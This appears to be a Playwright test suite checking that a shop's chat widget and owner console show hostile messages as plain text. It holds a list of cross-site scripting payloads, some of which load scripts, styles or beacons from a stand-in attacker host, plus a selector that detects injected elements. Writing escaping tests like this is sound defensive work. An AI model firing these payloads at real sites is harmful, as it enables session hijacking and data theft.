/** What attackers write is shown as they wrote it, and does nothing: no dialog, no request, no element of theirs. */
import assert from 'node:assert/strict';
import type { Page } from 'playwright-core';
import { answersTo, eventually, openChat, said, say, signIn, textShop, type BrowserTest } from './world.ts';

const PAYLOADS = [
  '<script>alert(1)</script>',
  '"><script src=//evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<img src=https://evil.example/beacon.png>',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=onmouseover to=alert(1)>',
  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<iframe src=javascript:alert(1)>',
  '<object data=javascript:alert(1)>',
  '<embed src=//evil.example/x.swf>',
  '<a href=javascript:alert(1)>x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<base href=https://evil.example/>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css"</style>',
  '<style>body{background:url(//evil.example/b)}</style>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><input autofocus onfocus=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<div style="background:url(//evil.example/c)">x</div>',
  '<p style="animation:x" onanimationend=alert(1)>',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '\'"`><img src=x onerror=alert(1)>',
  '\\"+alert(1)+\\"',
  '${alert(1)} {{constructor.constructor("alert(1)")()}}',
  '[x](javascript:alert(1)) ![x](https://evil.example/pixel.png)',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u202egnp.exe \u2066isolate \u200bzero',
  'Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c',
];

const WISH = 'I want to talk to a person';
const PER_MESSAGE = 9;

function messages(): string[] {
  const texts: string[] = [];
  for (let at = 0; at < PAYLOADS.length; at += PER_MESSAGE) {
    texts.push(PAYLOADS.slice(at, at + PER_MESSAGE).join('\n'));
  }
  return texts;
}

/** Elements that only an attacker would have put there. Our own pages have one of each script and stylesheet, none inline. */
async function assertHarmless(page: Page, where: string): Promise<void> {
  const found = await page.evaluate<string[]>(`(() => {
    const roots = [document, document.querySelector('#shopbell-chat')?.shadowRoot].filter(Boolean);
    const bad = 'iframe,object,embed,base,marquee,video,audio,math,img[src^="http"],img[onerror],[onload],[onfocus],[ontoggle],a[href^="javascript"],script:not([src]),script[src*="evil"],style,meta[http-equiv]';
    return roots.flatMap((root) => [...root.querySelectorAll(bad)].map((node) => node.outerHTML.slice(0, 80)));
  })()`);
  assert.deepEqual(found, [], where);
}

/** Longer than the longest burst is gathered: by then every answer to it is there. */
const QUIET_MS = 3_500;

/** The count, once it has not changed for a while: an answer that comes late must not be taken for the next one. */
async function settledCount(count: () => Promise<number>): Promise<number> {
  let last = await count();
  for (let quietSinceMs = Date.now(); Date.now() - quietSinceMs < QUIET_MS;) {
    await new Promise((resolve) => setTimeout(resolve, 200));
    const now = await count();
    if (now !== last) quietSinceMs = Date.now();
    last = now;
  }
  return last;
}

export const hostileTests: BrowserTest[] = [
  {
    name: 'hostile texts in the chat are text: in the widget, the inbox and the thread',
    async run(world) {
      const customer = await world.open('/demo/shop');
      await openChat(customer);
      const texts = messages();
      for (const text of texts) await say(customer, text);
      await said(customer, 'shop').first().waitFor();
      const answered = await settledCount(() => said(customer, 'shop').count());
      await say(customer, WISH);
      await eventually(
        'the hand-off',
        () => said(customer, 'shop').count(),
        (count) => count > answered,
      );
      const last = 'And now <img src=x onerror=alert(9)>';
      await say(customer, last);
      const expected = [...texts, WISH, last];
      await eventually(
        'all shown',
        () => said(customer, 'customer').allTextContents(),
        (shown) => shown.length === expected.length,
      );
      assert.deepEqual(await said(customer, 'customer').allTextContents(), expected);
      await assertHarmless(customer, 'the widget');

      const owner = await world.open('/console');
      await signIn(owner, world);
      const item = owner.locator('.inbox li', { hasText: 'alert(9)' });
      await item.waitFor();
      await assertHarmless(owner, 'the inbox');
      await item.locator('a').click();
      await eventually(
        'the thread',
        () => owner.locator('.entry.in .text').allTextContents(),
        (shown) => shown.length === expected.length,
      );
      assert.deepEqual(await owner.locator('.entry.in .text').allTextContents(), expected);
      await assertHarmless(owner, 'the thread');

      await owner.locator('#answer').fill(texts[0] ?? '');
      await owner.locator('.answer button').click();
      await said(customer, 'person').first().waitFor();
      assert.equal(await said(customer, 'person').first().textContent(), texts[0]);
      await assertHarmless(customer, 'the widget, after a person`s answer');
    },
  },
  {
    name: 'hostile texts by SMS are text in the console',
    async run(world) {
      const from = '+12025550163';
      for (const text of messages()) await textShop(world, from, text);
      const answered = await eventually(
        'an answer',
        () => answersTo(world, from),
        (count) => count > 0,
      );
      await textShop(world, from, WISH);
      await eventually(
        'the hand-off',
        () => answersTo(world, from),
        (count) => count > answered,
      );
      const owner = await world.open('/console');
      await signIn(owner, world);
      const item = owner.locator('.inbox li', { hasText: '0163' });
      await item.waitFor();
      await assertHarmless(owner, 'the inbox');
      await item.locator('a').click();
      await owner.locator('.entries').waitFor();
      const shown = (await owner.locator('.entry.in .text').allTextContents()).join('\n');
      for (const payload of PAYLOADS) assert.ok(shown.includes(payload), `shown as written: ${payload}`);
      await assertHarmless(owner, 'the thread');
    },
  },
];
